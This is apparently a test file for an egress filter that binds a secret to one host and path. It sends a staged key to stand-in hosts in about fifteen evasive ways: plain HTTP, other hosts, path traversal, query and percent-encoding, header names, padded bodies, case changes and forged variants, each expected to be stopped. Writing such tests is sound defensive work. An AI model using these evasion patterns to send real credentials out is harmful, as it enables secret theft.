# Sends its placeholder where the secret is not for: other hosts, paths and places, without TLS, in disguise.
#
# promise: secret.unseen
# group: egress
# expects: completed
# stopped-by: secret-binding
# network: named

import base64
import os

from attack import ask, judge, say, status

held = os.environ["STAGE_KEY"]
bearer = f"authorization: Bearer {held}"
login = base64.b64encode(f"me:{held}".encode()).decode()
clear = ["connection: close", bearer]


def quoted(text):
    return "".join(f"%{ord(letter):02x}" for letter in text)


answers = {
    "without TLS": status(say("GET http://open.example/ HTTP/1.1", "host: open.example", *clear)),
    "without TLS, a login": status(
        say(
            "GET http://open.example/ HTTP/1.1",
            "host: open.example",
            "connection: close",
            f"authorization: Basic {login}",
        )
    ),
    "another host": status(ask("few.example", "/few", bearer)),
    "another path": status(ask("key.example", "/other", bearer)),
    "another path, by dots": status(ask("key.example", "/key/../other", bearer)),
    "in the path": status(ask("key.example", f"/key/{held}")),
    "in the query": status(ask("key.example", f"/key?{held}")),
    "in the query, quoted": status(ask("key.example", f"/key?{quoted(held)}")),
    "in the name of a header": status(ask("key.example", "/key", f"{held}: x")),
    "in a body": status(ask("key.example", "/key", method="POST", body=f"say {held}".encode())),
    "in a long body": status(ask("key.example", "/key", method="POST", body=b"x" * 9000 + held.encode())),
    "in lower case": status(ask("key.example", "/key", f"authorization: Bearer {held.lower()}")),
    "of another run, in a body": status(
        ask("key.example", "/key", method="POST", body=f"say {held[:-8]}AAAAAAAA.".encode())
    ),
    "in another header": status(ask("key.example", "/key", f"x-comment: {held}")),
    "of another run": status(ask("key.example", "/key", f"authorization: Bearer {held[:-8]}AAAAAAAA")),
}
judge(answers)
